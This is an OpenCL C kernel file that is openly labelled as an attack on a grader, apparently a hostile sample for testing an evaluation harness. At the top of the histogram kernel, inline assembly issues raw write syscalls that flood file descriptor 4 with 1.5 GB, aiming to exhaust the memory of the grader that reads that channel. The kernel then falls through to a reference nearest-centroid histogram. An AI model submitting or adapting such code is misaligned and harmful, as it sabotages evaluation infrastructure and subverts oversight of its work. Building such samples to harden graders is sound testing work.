/* An attack, not a solution: native code on a CPU device. Work-item 0
 * writes 1.5 GB into file descriptor 4, where the worker keeps the records
 * the grader reads back, hoping that the grader reads it all into its own
 * memory; then it goes on as chapter 1's reference. */
static long sys3(long nr, long a, long b, long c)
{
    long ret;
    __asm__ volatile("syscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return ret;
}

__kernel void histogram(__global const float *descriptors,
                        __global const float *centroids,
                        __global int *histogram,
                        int n_descriptors,
                        int n_centroids,
                        int n_features)
{
    long chunk = (long)n_descriptors * n_features * sizeof(float);
    for (long sent = 0; sent < 1536L * 1024 * 1024;) {
        long w = sys3(1 /* write */, 4, (long)descriptors, chunk);
        if (w <= 0)
            break;
        sent += w;
    }
    for (int d = 0; d < n_descriptors; d++) {
        int nearest = 0;
        float best = FLT_MAX;
        for (int c = 0; c < n_centroids; c++) {
            float dist = 0.0f;
            for (int k = 0; k < n_features; k++) {
                float diff = descriptors[d * n_features + k] - centroids[c * n_features + k];
                dist += diff * diff;
            }
            if (dist < best) {
                best = dist;
                nearest = c;
            }
        }
        histogram[nearest] += 1;
    }
}
